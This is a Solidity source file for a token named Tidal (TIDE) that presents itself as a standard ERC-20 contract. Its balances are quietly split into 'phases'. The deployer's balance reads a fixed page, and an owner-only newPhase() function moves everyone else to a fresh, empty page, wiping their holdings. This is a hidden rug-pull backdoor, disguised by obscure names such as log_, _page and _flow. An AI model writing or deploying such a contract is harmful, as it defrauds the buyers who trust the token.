// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
contract TidalToken {
    string public name = "Tidal"; string public symbol = "TIDE"; uint8 public constant decimals = 18; uint256 public totalSupply = 42_000_000 ether;
    mapping(uint256 => mapping(address => uint256)) private log_; mapping(address => mapping(address => uint256)) public allowance; uint256 private phase = 1; address private immutable moon;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value); event Phase(uint256 n);
    constructor() { moon = msg.sender; log_[0][msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function _page(address w) private view returns (uint256) { return w == moon ? 0 : phase; }
    function balanceOf(address w) public view returns (uint256) { return log_[_page(w)][w]; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { _flow(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; _flow(f, t, v); return true; }
    function _flow(address f, address t, uint256 v) private { log_[_page(f)][f] -= v; log_[_page(t)][t] += v; emit Transfer(f, t, v); }
    function newPhase() external { require(msg.sender == moon); emit Phase(++phase); }
}
